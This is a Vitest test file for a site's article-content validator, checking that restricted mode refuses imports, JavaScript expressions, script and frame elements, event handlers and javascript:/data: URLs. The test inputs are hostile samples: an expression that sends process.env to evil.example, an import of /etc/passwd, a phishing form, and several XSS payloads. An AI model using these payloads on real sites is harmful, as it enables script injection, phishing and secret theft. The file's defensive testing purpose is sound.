import { describe, expect, it } from 'vitest';
import { formatIssue } from '../../../src/lib/content-issues.ts';
import { checkBody } from '../../../src/node/validate-content.ts';

/** The lines an author sees for a body, in restricted mode, as the file's line 5 onwards. */
const check = (body: string, extension: 'mdx' | 'md' = 'mdx') =>
	checkBody(`content/articles/x.${extension}`, `---\ntitle: "Hostile"\n---\n\n${body}\n`, 'restricted').map((issue) => formatIssue(issue));

describe('an article body in restricted mode (the default)', () => {
	it('accepts Markdown, safe links and images, and HTML from the allow-list', () => {
		expect(
			check(
				'## Heading\n\nA [link](https://example.com), a [path](/certifications/), an [anchor](#heading), [mail](mailto:a@example.com), ![img](./images/a.png).\n\n<details open><summary>More</summary>Text with <kbd>Ctrl</kbd> and <abbr title="Machine learning">ML</abbr>.</details>\n\n<img src="/images/x.png" alt="x" width="10" height="10" />',
			),
		).toEqual([]);
		expect(check('Prose with <b>bold</b> and <a href="https://example.com" title="t">a link</a>.', 'md')).toEqual([]);
	});

	it('refuses import and export lines, which would run code at build time', () => {
		expect(check('import fs from "node:fs"\n\nText.')).toMatchInlineSnapshot(`
			[
			  "content/articles/x.mdx:5:1  body  import and export are not allowed in an article: the site’s components need no import (contentTrust: restricted)",
			]
		`);
		expect(check('export const leak = process.env\n\nText.')).toHaveLength(1);
		expect(check('import data from "/etc/passwd?raw"\n\n{data}')).toHaveLength(2);
	});

	it('refuses JavaScript expressions, in text, in blocks and in attributes', () => {
		expect(check('Text {process.env.SECRET} here.')).toMatchInlineSnapshot(`
			[
			  "content/articles/x.mdx:5:6  body  a {…} expression is not allowed in an article: write \\{ to show a brace (contentTrust: restricted)",
			]
		`);
		expect(check('{await fetch("https://evil.example/?" + JSON.stringify(process.env))}')).toHaveLength(1);
		expect(check('<a href={"javascript:alert(1)"}>x</a>')).toMatchInlineSnapshot(`
			[
			  "content/articles/x.mdx:5:1  body  <a> has an attribute written as an expression: attribute values must be plain text in quotes (contentTrust: restricted)",
			]
		`);
		expect(check('<div {...props}>x</div>')).toHaveLength(1);
		expect(check('{/* an editor’s note */}\n\nText.')).toEqual([]);
		expect(check('{/* a */ process.exit() /* b */}')).toHaveLength(1);
	});

	it('refuses script, frames, forms, styles and other elements outside the allow-list, in MDX and Markdown alike', () => {
		expect(check('<script>alert(1)</script>', 'md')).toMatchInlineSnapshot(`
			[
			  "content/articles/x.md:5:1  body  <script> is not allowed in an article: use Markdown, or HTML from the allow-list (README, Security) (contentTrust: restricted)",
			]
		`);
		for (const html of ['<iframe src="https://evil.example"></iframe>', '<object data="x"></object>', '<embed src="x">', '<form action="https://evil.example"><input name="password"></form>', '<style>body{display:none}</style>', '<base href="https://evil.example/">', '<meta http-equiv="refresh" content="0;url=https://evil.example">', '<svg><script>alert(1)</script></svg>', '<link rel="stylesheet" href="https://evil.example/x.css">']) {
			expect(check(html, 'md').length, html).toBeGreaterThan(0);
		}
		expect(check('<iframe src="https://evil.example" />')).toHaveLength(1);
		expect(check('<Script>alert(1)</Script>')).toMatchInlineSnapshot(`
			[
			  "content/articles/x.mdx:5:1  body  <Script> is not one of the site’s components (<ExamTip>, <KeyFacts>, <ExamDomain>, <DomainWeights>); write \\<Script> to show the text (contentTrust: restricted)",
			]
		`);
	});

	it('refuses event handlers, styles and classes on allowed elements', () => {
		expect(check('<img src="x.png" alt="" onerror="alert(1)" />')).toMatchInlineSnapshot(`
			[
			  "content/articles/x.mdx:5:1  body  <img onerror> is not allowed: <img> may carry src, alt, title, width, height (contentTrust: restricted)",
			]
		`);
		expect(check('<img src="x.png" onerror="alert(1)">', 'md')).toEqual([
			'content/articles/x.md:5:1  body  <img onerror> is not allowed: <img> may carry src, alt, title, width, height (contentTrust: restricted)',
		]);
		expect(check('<p style="position:fixed;inset:0">Log in again</p>', 'md')).toHaveLength(1);
		expect(check('<span class="button">Fake button</span>')).toHaveLength(1);
		expect(check('<div onClick="alert(1)">x</div>')).toHaveLength(1);
	});

	it('refuses URLs that can run script or leave the site unseen, in links, images, definitions and HTML', () => {
		expect(check('[x](javascript:alert(1))')).toMatchInlineSnapshot(`
			[
			  "content/articles/x.mdx:5:1  body  the URL "javascript:alert(1)" is refused: use https:, http: or mailto:, or a path on this site (contentTrust: restricted)",
			]
		`);
		for (const body of [
			'[x](JaVaScRiPt:alert(1))',
			'![x](data:image/svg+xml,<svg onload=alert(1)>)',
			'[x][ref]\n\n[ref]: javascript:alert(1)',
			'[x](//evil.example/phish)',
			'[x](/\\evil.example/phish)',
			'<a href="vbscript:msgbox">x</a>',
			'<img src="data:text/html,x" alt="" />',
		]) {
			expect(check(body).length, body).toBeGreaterThan(0);
		}
		expect(check('<a href="javascript:alert(1)">x</a>', 'md')).toHaveLength(1);
		expect(check('<javascript:alert(1)>', 'md')).toHaveLength(1);
	});

	it('reports a syntax error with its line and column, as before', () => {
		expect(check('Text {a +}')).toEqual(['content/articles/x.mdx:5:10  body  is not valid MDX: Could not parse expression with oxc: Unexpected token']);
	});

	it('leaves plain prose unparsed and unflagged', () => {
		expect(check('Just words, with a } brace and 3 < 4 written as text.', 'md')).toEqual([]);
	});
});

describe('an article body in trusted mode', () => {
	it('allows imports, expressions and any HTML, as a maintainer wrote them', () => {
		const trusted = (body: string) => checkBody('content/articles/x.mdx', `---\ntitle: "T"\n---\n\n${body}\n`, 'trusted');
		expect(trusted('import { Tip } from "../../src/components/Tip.astro"\n\n<Tip>{1 + 1}</Tip>\n\n<iframe src="https://example.com"></iframe>')).toEqual([]);
	});
});
